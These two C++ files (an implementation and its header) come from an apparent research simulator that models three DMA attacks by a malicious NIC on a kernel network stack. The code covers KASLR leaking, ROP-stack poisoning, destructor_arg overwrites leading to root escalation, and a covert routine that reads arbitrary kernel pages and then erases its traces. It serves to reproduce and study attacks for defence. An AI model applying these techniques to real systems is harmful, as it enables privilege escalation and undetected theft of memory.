// ring ends up holding the same narrative as AttackReport::steps, interleaved
// with the DMA/IOMMU events each stage caused.
void EmitStage(core::Machine& machine, std::string_view attack, const std::string& text) {
  telemetry::Hub& hub = machine.telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = telemetry::EventKind::kAttackStage;
  event.severity = telemetry::Severity::kWarn;
  event.origin = &machine;
  event.site = std::string(attack) + ": " + text;
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter("attack.stages").Add();
  }
}

// Searches a byte block for the poison marker; returns the image start.
std::optional<uint64_t> FindPoisonImage(const std::vector<uint8_t>& block) {
  if (block.size() < PoisonLayout::kImageBytes) {
    return std::nullopt;
  }
  for (uint64_t at = 0; at + 8 <= block.size(); at += 8) {
    uint64_t value;
    std::memcpy(&value, block.data() + at, 8);
    if (value == PoisonLayout::kMarker && at >= PoisonLayout::kMarkerOffset) {
      return at - PoisonLayout::kMarkerOffset;
    }
  }
  return std::nullopt;
}

}  // namespace

std::string VulnerabilityAttributes::ToString() const {
  std::ostringstream out;
  out << "(1) malicious-buffer KVA: " << (malicious_buffer_kva ? "yes" : "no")
      << " | (2) callback write access: " << (callback_write_access ? "yes" : "no")
      << " | (3) time window: " << (time_window ? "yes" : "no");
  return out.str();
}

uint64_t SharedInfoOffset(uint32_t truesize) {
  return truesize - net::SkbDataAlign(net::SharedInfoLayout::kSize);
}

uint64_t DestructorArgOffset(uint32_t truesize) {
  return SharedInfoOffset(truesize) + net::SharedInfoLayout::kDestructorArg;
}

Status SeedResidualKernelData(core::Machine& machine, int objects) {
  // Freed kernel structures whose bytes linger on recycled pages: arrays of
  // list-linked structs, each carrying a self-referential pointer (direct
  // map) and an ops-style pointer into the kernel image (init_net stands in
  // for any known symbol). Allocated as large blocks so the dirty pages
  // coalesce back into the buddy allocator's lowest blocks — exactly the
  // pages page_frag pools and RX rings are carved from next.
  constexpr uint64_t kBlockBytes = 32 * 1024;
  constexpr uint64_t kStructStride = 512;
  std::vector<Kva> allocated;
  allocated.reserve(static_cast<size_t>(objects));
  const Kva init_net = machine.layout().SymbolKva(mem::kSymInitNet);
  for (int i = 0; i < objects; ++i) {
    Result<Kva> kva = machine.slab().Kmalloc(kBlockBytes, "residual_kernel_struct_array");
    if (!kva.ok()) {
      break;  // memory pressure: seed what we can
    }
    for (uint64_t off = 0; off + 16 <= kBlockBytes; off += kStructStride) {
      SPV_RETURN_IF_ERROR(machine.kmem().WriteU64(*kva + off, (*kva + off).value));
      SPV_RETURN_IF_ERROR(machine.kmem().WriteU64(*kva + off + 8, init_net.value));
    }
    allocated.push_back(*kva);
  }
  for (Kva kva : allocated) {
    SPV_RETURN_IF_ERROR(machine.slab().Kfree(kva));
  }
  return OkStatus();
}

namespace {

// Generic sub-page poke: write `bytes` at `field_offset` within the buffer
// that was posted as `consumed`, firing through every open access path.
PokeResult TryPokeBytes(device::MaliciousNic& nic, const net::RxPostedDescriptor& consumed,
                        uint64_t field_offset, std::span<const uint8_t> bytes,
                        const PokeOptions& options = {}) {
  PokeResult result;
  // Path (ii): the buffer's own IOVA. PTE is gone, but in deferred mode the
  // IOTLB entry warmed by the packet DMA is still live until the flush.
  if (options.try_own_iova && nic.port().Write(consumed.iova + field_offset, bytes).ok()) {
    result.own_iova_write = true;
  }
  // Path (iii): a neighbouring RX buffer's mapping covers our page. page_frag
  // allocates descending, so posted buffers sit at +/- truesize from ours.
  const uint32_t truesize = consumed.buf_len;
  if (options.try_neighbor) {
    for (const net::RxPostedDescriptor& other : nic.rx_posted()) {
      for (int64_t delta :
           {-static_cast<int64_t>(truesize), static_cast<int64_t>(truesize)}) {
        // If other = consumed + delta in KVA space, then our field lives at
        // (field_offset - delta) relative to other's buffer start.
        const int64_t rel = static_cast<int64_t>(field_offset) - delta;
        const int64_t target = static_cast<int64_t>(other.iova.value) + rel;
        const uint64_t span_begin = other.iova.PageBase().value;
        const uint64_t pages =
            (other.iova.page_offset() + other.buf_len + kPageSize - 1) >> kPageShift;
        const uint64_t span_end = span_begin + (pages << kPageShift);
        if (target < 0 || static_cast<uint64_t>(target) < span_begin ||
            static_cast<uint64_t>(target) + bytes.size() > span_end) {
          continue;
        }
        if (nic.port().Write(Iova{static_cast<uint64_t>(target)}, bytes).ok()) {
          result.neighbor_write = true;
        }
      }
    }
  }
  result.success = result.own_iova_write || result.neighbor_write;
  if (result.own_iova_write && result.neighbor_write) {
    result.path = "own-iova+neighbor-iova";
  } else if (result.own_iova_write) {
    result.path = "own-iova";
  } else if (result.neighbor_write) {
    result.path = "neighbor-iova";
  }
  return result;
}

}  // namespace

PokeResult TryPokeDestructorArg(device::MaliciousNic& nic,
                                const net::RxPostedDescriptor& consumed, uint32_t truesize,
                                uint64_t destructor_arg, const PokeOptions& options) {
  return TryPokeQword(nic, consumed, DestructorArgOffset(truesize), destructor_arg, options);
}

PokeResult TryPokeQword(device::MaliciousNic& nic, const net::RxPostedDescriptor& consumed,
                        uint64_t field_offset, uint64_t value, const PokeOptions& options) {
  uint8_t bytes[8];
  std::memcpy(bytes, &value, 8);
  return TryPokeBytes(nic, consumed, field_offset, bytes, options);
}

// ---- RingFlood ----------------------------------------------------------------------

void RingFloodAttack::ReplayBootNoise(core::Machine& machine, uint64_t seed,
                                      int base_allocs) {
  // The same module-init allocation sequence every boot, shifted slightly by
  // multi-core scheduling jitter.
  Xoshiro256 jitter{seed * 7919};
  const int allocs = base_allocs + static_cast<int>(jitter.NextBelow(5));
  std::vector<Kva> noise;
  for (int i = 0; i < allocs; ++i) {
    const uint64_t sizes[] = {128, 256, 512, 1024, 2048};
    auto kva = machine.slab().Kmalloc(sizes[jitter.NextBelow(5)], "boot_noise");
    if (kva.ok()) {
      noise.push_back(*kva);
    }
  }
  for (Kva kva : noise) {
    if (jitter.NextBool(0.5)) {
      (void)machine.slab().Kfree(kva);
    }
  }
}

std::map<uint64_t, int> RingFloodAttack::ProfileRxPfns(const ProfileOptions& options) {
  std::map<uint64_t, int> histogram;
  for (int boot = 0; boot < options.boots; ++boot) {
    core::MachineConfig config = options.machine;
    config.seed = options.base_seed + static_cast<uint64_t>(boot);
    core::Machine machine{config};
    ReplayBootNoise(machine, config.seed, options.boot_noise_allocs);

    std::set<uint64_t> boot_pfns;
    for (int ring = 0; ring < std::max(options.num_rings, 1); ++ring) {
      net::NicDriver::Config ring_config = options.driver;
      ring_config.cpu = CpuId{static_cast<uint32_t>(ring)};
      net::NicDriver& driver = machine.AddNicDriver(ring_config);
      if (!driver.FillRxRing().ok()) {
        continue;
      }
      for (uint32_t slot = 0; slot < ring_config.rx_ring_size; ++slot) {
        auto kva = driver.RxSlotKva(slot);
        if (!kva.has_value()) {
          continue;
        }
        auto phys = machine.layout().DirectMapKvaToPhys(*kva);
        const uint64_t first = phys->pfn().value;
        const uint64_t last = (phys->value + driver.rx_buffer_bytes() - 1) >> kPageShift;
        for (uint64_t pfn = first; pfn <= last; ++pfn) {
          boot_pfns.insert(pfn);
        }
      }
    }
    for (uint64_t pfn : boot_pfns) {
      ++histogram[pfn];
    }
  }
  return histogram;
}

uint64_t RingFloodAttack::MostCommonPfn(const std::map<uint64_t, int>& histogram) {
  uint64_t best = 0;
  int best_count = -1;
  for (const auto& [pfn, count] : histogram) {
    if (count > best_count) {
      best = pfn;
      best_count = count;
    }
  }
  return best;
}

Result<AttackReport> RingFloodAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.ring_flood");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "ring_flood", text);
    report.steps.push_back(std::move(text));
  };

  // -- Bootstrap KASLR from the victim's own outbound traffic ----------------
  auto socket = env.machine.stack().CreateSocket(options.heartbeat_port, false);
  if (!socket.ok()) {
    return socket.status();
  }
  net::PacketHeader heartbeat{.src_ip = env.machine.stack().config().local_ip,
                              .dst_ip = 0x08080808,
                              .src_port = options.heartbeat_port,
                              .dst_port = options.heartbeat_port,
                              .proto = net::kProtoUdp};
  std::vector<uint8_t> beat(300, 0x42);
  SPV_RETURN_IF_ERROR(env.machine.stack().SendPacket(heartbeat, beat));
  step("victim sent routine outbound traffic (NTP-style heartbeat)");

  KaslrBreaker breaker;
  Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
  if (harvest.ok()) {
    breaker.Consume(*harvest);
  }
  report.kaslr = breaker.knowledge();
  step("device harvested TX-readable pages: " + breaker.knowledge().ToString());
  if (!breaker.knowledge().text_base.has_value() ||
      !breaker.knowledge().page_offset_base.has_value()) {
    step("KASLR bootstrap failed — aborting");
    return report;
  }

  // -- Poison every posted RX buffer ------------------------------------------
  const uint32_t truesize = env.nic.rx_buffer_bytes();
  if (options.poison_offset_in_buffer + PoisonLayout::kImageBytes > SharedInfoOffset(truesize)) {
    return InvalidArgument("poison offset collides with shared_info");
  }
  struct PoisonRecord {
    uint32_t index;
    uint64_t ubuf_guess;
  };
  std::vector<PoisonRecord> poisons;
  int poisoned = 0;
  for (const net::RxPostedDescriptor& descriptor : env.device.rx_posted()) {
    const Iova at = descriptor.iova + options.poison_offset_in_buffer;
    if (at.PageBase() != (at + PoisonLayout::kImageBytes - 1).PageBase()) {
      continue;  // image would straddle a page; KVA guess would be wrong
    }
    const uint64_t ubuf_guess =
        *breaker.knowledge().PfnToKva(options.pfn_guess, at.page_offset());
    Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), ubuf_guess);
    if (!image.ok()) {
      return image.status();
    }
    if (env.device.port().Write(at, *image).ok()) {
      poisons.push_back(PoisonRecord{descriptor.index, ubuf_guess});
      ++poisoned;
    }
  }
  report.attributes.malicious_buffer_kva = true;  // derived (guessed) KVA in hand
  report.attributes.callback_write_access = true; // shared_info offsets known
  step("poisoned " + std::to_string(poisoned) + " RX ring buffers with ROP stacks");

  // -- Trigger: ordinary RX traffic frees skbs, firing the callback ------------
  const size_t ring = env.device.rx_posted().size();
  for (size_t i = 0; i < ring && !env.cpu.privilege_escalated(); ++i) {
    net::PacketHeader trigger{.src_ip = kAttackerIp,
                              .dst_ip = env.machine.stack().config().local_ip,
                              .src_port = 1234,
                              .dst_port = kClosedPort,
                              .proto = net::kProtoUdp};
    std::vector<uint8_t> payload(64, 0x11);
    if (env.device.rx_posted().empty()) {
      break;
    }
    const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
    Result<uint32_t> index = env.device.InjectRx(trigger, payload);
    if (!index.ok()) {
      break;
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
    if (!skb.ok()) {
      continue;
    }
    // The CPU just re-initialized shared_info; reassert destructor_arg
    // through whatever window is open.
    auto record = std::find_if(poisons.begin(), poisons.end(),
                               [&](const PoisonRecord& p) { return p.index == consumed.index; });
    if (record != poisons.end()) {
      PokeResult poke =
          TryPokeDestructorArg(env.device, consumed, truesize, record->ubuf_guess);
      if (poke.success) {
        report.attributes.time_window = true;
        report.window_path = poke.path;
      }
    }
    SPV_RETURN_IF_ERROR(env.machine.stack().NapiGroReceive(std::move(*skb)));
  }
  report.success = env.cpu.privilege_escalated();
  step(report.success
           ? "callback fired into JOP pivot -> ROP chain -> commit_creds(root)"
           : "PFN guess missed: callback pointed at garbage (no escalation)");
  return report;
}

// ---- Poisoned TX ---------------------------------------------------------------------

Result<AttackReport> PoisonedTxAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.poisoned_tx");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "poisoned_tx", text);
    report.steps.push_back(std::move(text));
  };
  net::NetworkStack& stack = env.machine.stack();
  KaslrBreaker breaker;

  // -- Bootstrap: innocuous echo leaks the socket page --------------------------
  net::PacketHeader echo_header{.src_ip = kAttackerIp,
                                .dst_ip = stack.config().local_ip,
                                .src_port = 40000,
                                .dst_port = options.echo_port,
                                .proto = net::kProtoUdp};
  {
    std::vector<uint8_t> probe(options.bootstrap_payload_bytes, 0x41);
    Result<uint32_t> index = env.device.InjectRx(echo_header, probe);
    if (!index.ok()) {
      return index.status();
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + probe.size()));
    if (!skb.ok()) {
      return skb.status();
    }
    SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  }
  {
    Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
    if (harvest.ok()) {
      breaker.Consume(*harvest);
    }
  }
  step("bootstrap echo: harvested socket page -> " + breaker.knowledge().ToString());
  if (!breaker.knowledge().text_base.has_value() ||
      !breaker.knowledge().page_offset_base.has_value()) {
    report.kaslr = breaker.knowledge();
    step("KASLR bootstrap failed — aborting");
    return report;
  }

  // -- Poison echo: the service obligingly copies our ROP stack into a TX frag --
  Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), 0);
  if (!image.ok()) {
    return image.status();
  }
  {
    std::vector<uint8_t> payload = PadTo(*image, options.poison_payload_bytes);
    Result<uint32_t> index = env.device.InjectRx(echo_header, payload);
    if (!index.ok()) {
      return index.status();
    }
    Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
        *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
    if (!skb.ok()) {
      return skb.status();
    }
    SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  }
  step("poison echoed: TX posted with payload in frags (device delays completion)");

  // -- Locate our buffer: read frags, find the marker, translate to KVA ---------
  Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
  if (harvest.ok()) {
    breaker.Consume(*harvest);  // frag struct-page pointers pin vmemmap_base
  }
  report.kaslr = breaker.knowledge();
  step("second harvest: " + breaker.knowledge().ToString());

  std::optional<uint64_t> ubuf_kva;
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.frag_iovas.empty()) {
      continue;
    }
    Result<std::vector<uint64_t>> linear_page =
        env.device.port().ReadPageQwords(descriptor.linear_iova);
    if (!linear_page.ok()) {
      continue;
    }
    const std::vector<ParsedFrag> frags = ScanForFragEntries(*linear_page);
    for (size_t j = 0; j < descriptor.frag_iovas.size() && j < frags.size(); ++j) {
      Result<std::vector<uint8_t>> content =
          env.device.port().ReadBlock(descriptor.frag_iovas[j], descriptor.frag_lens[j]);
      if (!content.ok()) {
        continue;
      }
      std::optional<uint64_t> image_off = FindPoisonImage(*content);
      if (!image_off.has_value()) {
        continue;
      }
      Result<uint64_t> data_kva = breaker.knowledge().StructPageToDataKva(
          frags[j].struct_page, frags[j].page_offset);
      if (data_kva.ok()) {
        ubuf_kva = *data_kva + *image_off;
      }
    }
  }
  if (!ubuf_kva.has_value()) {
    step("could not locate poison buffer KVA — aborting");
    return report;
  }
  report.attributes.malicious_buffer_kva = true;
  {
    std::ostringstream out;
    out << "poison buffer located at KVA 0x" << std::hex << *ubuf_kva;
    step(out.str());
  }

  // -- Hijack: point a dying RX skb's destructor_arg at our buffer --------------
  if (env.device.rx_posted().empty()) {
    return Unavailable("no RX descriptors for the trigger packet");
  }
  const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
  net::PacketHeader trigger{.src_ip = kAttackerIp,
                            .dst_ip = stack.config().local_ip,
                            .src_port = 1,
                            .dst_port = kClosedPort,
                            .proto = net::kProtoUdp};
  std::vector<uint8_t> trigger_payload(32, 0x00);
  Result<uint32_t> index = env.device.InjectRx(trigger, trigger_payload);
  if (!index.ok()) {
    return index.status();
  }
  Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
      *index, static_cast<uint32_t>(net::PacketHeader::kSize + trigger_payload.size()));
  if (!skb.ok()) {
    return skb.status();
  }
  report.attributes.callback_write_access = true;
  PokeResult poke =
      TryPokeDestructorArg(env.device, consumed, env.nic.rx_buffer_bytes(), *ubuf_kva);
  report.window_path = poke.path;
  report.attributes.time_window = poke.success;
  step("destructor_arg overwrite via " + poke.path);
  SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));

  report.success = env.cpu.privilege_escalated();
  step(report.success ? "trigger skb freed -> JOP pivot -> ROP -> commit_creds(root)"
                      : "no escalation");

  // -- Cleanup: sign the delayed TX completions before the watchdog fires -------
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    (void)stack.OnTxCompleted(descriptor.index);
  }
  env.device.tx_posted().clear();
  return report;
}

// ---- Forward Thinking ------------------------------------------------------------------

Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env, const Options& options) {
  trace::ScopedSpan attack_span(env.machine.tracer(), "attack.forward_thinking");
  AttackReport report;
  auto step = [&](std::string text) {
    EmitStage(env.machine, "forward_thinking", text);
    report.steps.push_back(std::move(text));
  };
  net::NetworkStack& stack = env.machine.stack();
  if (!stack.config().forwarding_enabled) {
    return FailedPrecondition("forwarding disabled on the victim");
  }
  KaslrBreaker breaker;

  auto send_stream = [&](uint16_t src_port, int segments,
                         const std::vector<std::vector<uint8_t>>& payloads)
      -> Result<std::vector<net::RxPostedDescriptor>> {
    std::vector<net::RxPostedDescriptor> consumed_list;
    for (int s = 0; s < segments; ++s) {
      net::PacketHeader header{.src_ip = kAttackerIp,
                               .dst_ip = options.remote_ip,
                               .src_port = src_port,
                               .dst_port = 443,
                               .proto = net::kProtoTcp,
                               .flags = 0,
                               .payload_len = 0,
                               .seq = static_cast<uint32_t>(s) * 600};
      const std::vector<uint8_t>& payload = payloads[static_cast<size_t>(s) % payloads.size()];
      if (env.device.rx_posted().empty()) {
        return Unavailable("RX ring empty");
      }
      consumed_list.push_back(env.device.rx_posted().front());
      Result<uint32_t> index = env.device.InjectRx(header, payload);
      if (!index.ok()) {
        return index.status();
      }
      Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
          *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
      if (!skb.ok()) {
        return skb.status();
      }
      SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
    }
    SPV_RETURN_IF_ERROR(stack.NapiComplete());  // GRO flush -> forward -> TX
    return consumed_list;
  };

  // -- Probe stream: forwarded TX pages leak residual kernel pointers -----------
  {
    std::vector<std::vector<uint8_t>> probe{std::vector<uint8_t>(600, 0x33)};
    Result<std::vector<net::RxPostedDescriptor>> consumed =
        send_stream(50001, options.bootstrap_segments, probe);
    if (!consumed.ok()) {
      return consumed.status();
    }
    Result<std::vector<uint64_t>> harvest = env.device.HarvestReadableQwords();
    if (harvest.ok()) {
      breaker.Consume(*harvest);
    }
  }
  report.kaslr = breaker.knowledge();
  step("probe stream forwarded; harvest -> " + breaker.knowledge().ToString());
  if (!breaker.knowledge().complete()) {
    step("KASLR bootstrap incomplete — aborting");
    return report;
  }

  // -- Poison stream: our ROP stack rides a GRO frag out of the box -------------
  Result<std::vector<uint8_t>> image = BuildPoisonImage(breaker.knowledge(), 0);
  if (!image.ok()) {
    return image.status();
  }
  std::vector<std::vector<uint8_t>> payloads{std::vector<uint8_t>(600, 0x44),
                                             PadTo(*image, 600)};
  Result<std::vector<net::RxPostedDescriptor>> consumed = send_stream(50002, 4, payloads);
  if (!consumed.ok()) {
    return consumed.status();
  }
  const net::RxPostedDescriptor head_descriptor = consumed->front();
  step("poison stream aggregated by GRO and forwarded (completion delayed)");

  // -- Locate the poison via the forwarded frags --------------------------------
  std::optional<uint64_t> ubuf_kva;
  uint32_t hijack_tx_index = 0;
  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.frag_iovas.empty()) {
      continue;
    }
    Result<std::vector<uint64_t>> linear_page =
        env.device.port().ReadPageQwords(descriptor.linear_iova);
    if (!linear_page.ok()) {
      continue;
    }
    const std::vector<ParsedFrag> frags = ScanForFragEntries(*linear_page);
    for (size_t j = 0; j < descriptor.frag_iovas.size() && j < frags.size(); ++j) {
      Result<std::vector<uint8_t>> content =
          env.device.port().ReadBlock(descriptor.frag_iovas[j], descriptor.frag_lens[j]);
      if (!content.ok()) {
        continue;
      }
      std::optional<uint64_t> image_off = FindPoisonImage(*content);
      if (!image_off.has_value()) {
        continue;
      }
      Result<uint64_t> data_kva = breaker.knowledge().StructPageToDataKva(
          frags[j].struct_page, frags[j].page_offset);
      if (data_kva.ok()) {
        ubuf_kva = *data_kva + *image_off;
        hijack_tx_index = descriptor.index;
      }
    }
  }
  if (!ubuf_kva.has_value()) {
    step("poison frag not located — aborting");
    return report;
  }
  report.attributes.malicious_buffer_kva = true;
  {
    std::ostringstream out;
    out << "GRO frag leaked our buffer KVA: 0x" << std::hex << *ubuf_kva;
    step(out.str());
  }

  // -- Hijack the forwarded skb's own destructor --------------------------------
  report.attributes.callback_write_access = true;
  PokeResult poke = TryPokeDestructorArg(env.device, head_descriptor,
                                         env.nic.rx_buffer_bytes(), *ubuf_kva);
  report.window_path = poke.path;
  report.attributes.time_window = poke.success;
  step("destructor_arg overwrite on forwarded head skb via " + poke.path);

  // -- Trigger: sign the TX completion; the kernel frees the skb ----------------
  SPV_RETURN_IF_ERROR(stack.OnTxCompleted(hijack_tx_index));
  report.success = env.cpu.privilege_escalated();
  step(report.success ? "TX completion freed skb -> JOP pivot -> ROP -> commit_creds(root)"
                      : "no escalation");

  for (const net::TxPostedDescriptor& descriptor : env.device.tx_posted()) {
    if (descriptor.index != hijack_tx_index) {
      (void)stack.OnTxCompleted(descriptor.index);
    }
  }
  env.device.tx_posted().clear();
  return report;
}

Result<std::vector<uint8_t>> ForwardThinkingAttack::SurveillanceRead(
    const AttackEnv& env, const KaslrKnowledge& knowledge, uint64_t target_pfn,
    uint32_t offset, uint32_t len, uint32_t remote_ip) {
  net::NetworkStack& stack = env.machine.stack();
  if (!stack.config().forwarding_enabled) {
    return FailedPrecondition("forwarding disabled on the victim");
  }
  if (!knowledge.vmemmap_base.has_value()) {
    return Unavailable("vmemmap base unknown");
  }
  if (env.device.rx_posted().empty()) {
    return Unavailable("RX ring empty");
  }

  // Small UDP packet destined for forwarding.
  const net::RxPostedDescriptor consumed = env.device.rx_posted().front();
  net::PacketHeader header{.src_ip = kAttackerIp,
                           .dst_ip = remote_ip,
                           .src_port = 50777,
                           .dst_port = 53,
                           .proto = net::kProtoUdp};
  std::vector<uint8_t> payload(32, 0x77);
  Result<uint32_t> index = env.device.InjectRx(header, payload);
  if (!index.ok()) {
    return index.status();
  }
  Result<net::SkBuffPtr> skb = env.nic.CompleteRx(
      *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
  if (!skb.ok()) {
    return skb.status();
  }

  // Forge a frag pointing at the page we want to exfiltrate: the driver will
  // blindly map it for READ (§5.5).
  const uint32_t truesize = env.nic.rx_buffer_bytes();
  const uint64_t struct_page = *knowledge.vmemmap_base + target_pfn * mem::kStructPageSize;
  uint8_t frag_entry[16];
  std::memcpy(frag_entry, &struct_page, 8);
  std::memcpy(frag_entry + 8, &offset, 4);
  std::memcpy(frag_entry + 12, &len, 4);
  PokeResult frag_poke = TryPokeBytes(
      env.device, consumed, SharedInfoOffset(truesize) + net::SharedInfoLayout::kFrags,
      frag_entry);
  if (!frag_poke.success) {
    return Unavailable("no write window to plant the forged frag");
  }
  const uint8_t one = 1;
  PokeResult count_poke = TryPokeBytes(env.device, consumed, SharedInfoOffset(truesize),
                                       std::span<const uint8_t>(&one, 1));
  if (!count_poke.success) {
    return Unavailable("no write window to set nr_frags");
  }

  const size_t tx_before = env.device.tx_posted().size();
  SPV_RETURN_IF_ERROR(stack.NapiGroReceive(std::move(*skb)));
  if (env.device.tx_posted().size() <= tx_before) {
    return Unavailable("packet was not forwarded");
  }
  const net::TxPostedDescriptor descriptor = env.device.tx_posted().back();
  if (descriptor.frag_iovas.empty()) {
    return Internal("forged frag was not mapped");
  }
  Result<std::vector<uint8_t>> secret =
      env.device.port().ReadBlock(descriptor.frag_iovas[0], len);

  // Undo the forgery before signalling completion to stay undetected (§5.5).
  const uint8_t zero = 0;
  (void)TryPokeBytes(env.device, consumed, SharedInfoOffset(truesize),
                     std::span<const uint8_t>(&zero, 1));
  (void)stack.OnTxCompleted(descriptor.index);
  env.device.tx_posted().pop_back();
  return secret;
}

}  // namespace spv::attack
