// The three compound DMA attacks (§5.3–§5.5) plus the shared machinery for
// obtaining the missing vulnerability attributes (§3.3):
//
//   attribute (2) — write access to a callback pointer — comes from
//   skb_shared_info living inside every mapped data buffer (§5.1);
//   attribute (3) — a time window — comes from one of the Fig-7 paths
//   (wrong unmap order / deferred IOTLB / type (c) neighbour IOVA), probed
//   at runtime by TryPokeDestructorArg;
//   attribute (1) — the malicious buffer's KVA — is what distinguishes the
//   three attacks: boot-deterministic PFN guessing (RingFlood), echoed TX
//   frags (Poisoned TX), or GRO-filled forwarded frags (Forward Thinking).
//
// Each Run() is the experiment harness: it plays both the kernel (driver
// completions, stack delivery) and the device. Device-side steps only ever
// consume device-visible information (descriptors + DMA reads).

#ifndef SPV_ATTACK_ATTACKS_H_
#define SPV_ATTACK_ATTACKS_H_

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "attack/kaslr_break.h"
#include "attack/mini_cpu.h"
#include "attack/poison.h"
#include "base/status.h"
#include "core/machine.h"
#include "device/malicious_nic.h"
#include "net/nic_driver.h"

namespace spv::attack {

// The three §3.3 attributes, tracked for reporting.
struct VulnerabilityAttributes {
  bool malicious_buffer_kva = false;
  bool callback_write_access = false;
  bool time_window = false;

  bool complete() const { return malicious_buffer_kva && callback_write_access && time_window; }
  std::string ToString() const;
};

struct AttackReport {
  bool success = false;
  VulnerabilityAttributes attributes;
  KaslrKnowledge kaslr;
  std::string window_path;          // which Fig-7 path delivered the write
  std::vector<std::string> steps;   // narrative for benches/examples
};

struct AttackEnv {
  core::Machine& machine;
  net::NicDriver& nic;
  device::MaliciousNic& device;
  MiniCpu& cpu;
};

// ---- Shared device-side primitives ---------------------------------------------

// Leaves freed kernel objects (with direct-map and init_net pointers inside)
// on pages that will be recycled into I/O buffers — the "random exposure"
// residue D-KASAN flags (§4.2) and Forward Thinking harvests. Call before the
// driver fills its RX ring.
Status SeedResidualKernelData(core::Machine& machine, int objects);

// Attempts to overwrite the destructor_arg of the shared_info belonging to a
// consumed RX buffer. The device cannot read back WRITE-only pages, so it
// fires through *every* window it might have and lets redundancy win:
//   "own-iova"      — the buffer's original IOVA. In deferred mode this hits
//                     through the stale IOTLB entry (Fig 7 (ii)); in strict
//                     mode the IOVA may have been recycled for the refill
//                     buffer, in which case the write lands elsewhere — a
//                     blind-fire risk the attacker accepts;
//   "neighbor-iova" — a still-posted descriptor whose mapping covers the same
//                     physical page, probed via the page_frag adjacency
//                     pattern (Fig 7 (iii)).
// `path` lists the writes that went through (attacker's view, not ground
// truth); the experiment decides success by whether escalation fires.
struct PokeResult {
  bool success = false;         // at least one write went through
  bool own_iova_write = false;
  bool neighbor_write = false;
  std::string path = "failed";
};
struct PokeOptions {
  bool try_own_iova = true;
  bool try_neighbor = true;
};
PokeResult TryPokeDestructorArg(device::MaliciousNic& nic,
                                const net::RxPostedDescriptor& consumed, uint32_t truesize,
                                uint64_t destructor_arg, const PokeOptions& options = {});

// Generic variant: write one qword at an arbitrary offset within the
// consumed buffer (used e.g. to spray every candidate slot when the victim
// runs struct-layout randomization, footnote 2).
PokeResult TryPokeQword(device::MaliciousNic& nic, const net::RxPostedDescriptor& consumed,
                        uint64_t field_offset, uint64_t value,
                        const PokeOptions& options = {});

// Device-side: offset of the shared_info (and its destructor_arg field)
// within an RX buffer of `truesize` bytes — derivable from the driver model.
uint64_t SharedInfoOffset(uint32_t truesize);
uint64_t DestructorArgOffset(uint32_t truesize);

// ---- §5.3 RingFlood ----------------------------------------------------------------

class RingFloodAttack {
 public:
  struct ProfileOptions {
    core::MachineConfig machine;        // victim template (seed varied per boot)
    net::NicDriver::Config driver;
    int boots = 32;
    uint64_t base_seed = 1000;
    int boot_noise_allocs = 40;         // deterministic boot work with jitter
    // Multi-queue scaling (§5.3: footprint grows with the number of cores,
    // i.e. RX rings): one ring per CPU 0..num_rings-1.
    int num_rings = 1;
  };

  // The deterministic boot work (module loads, early daemons) with per-boot
  // multi-core timing jitter. Profiling and the live victim must run the
  // same procedure — that is the §5.3 premise. Exposed so harnesses replay
  // it on the victim instance.
  static void ReplayBootNoise(core::Machine& machine, uint64_t seed, int base_allocs);

  // Offline phase: reboot an identical setup repeatedly and histogram which
  // PFNs host RX-ring data pages. Returns pfn -> number of boots present.
  static std::map<uint64_t, int> ProfileRxPfns(const ProfileOptions& options);
  static uint64_t MostCommonPfn(const std::map<uint64_t, int>& histogram);

  struct Options {
    uint64_t pfn_guess = 0;
    uint64_t poison_offset_in_buffer = 1024;  // past any trigger packet bytes
    uint16_t heartbeat_port = 123;            // victim's outbound traffic
  };

  // Online phase against a live machine. Bootstraps KASLR from the victim's
  // own TX traffic, poisons every posted RX buffer, then lets normal RX
  // processing fire the callback.
  static Result<AttackReport> Run(const AttackEnv& env, const Options& options);
};

// ---- §5.4 Poisoned TX -----------------------------------------------------------------

class PoisonedTxAttack {
 public:
  struct Options {
    uint16_t echo_port = 7;
    uint32_t bootstrap_payload_bytes = 300;  // linear echo: leaks socket page
    uint32_t poison_payload_bytes = 1024;    // frag echo: leaks struct pages
  };

  static Result<AttackReport> Run(const AttackEnv& env, const Options& options);
};

// ---- §5.5 Forward Thinking -----------------------------------------------------------

class ForwardThinkingAttack {
 public:
  struct Options {
    uint32_t remote_ip = 0x0a000099;  // any non-local destination
    int bootstrap_segments = 4;       // probe TCP stream for the KASLR leak
  };

  static Result<AttackReport> Run(const AttackEnv& env, const Options& options);

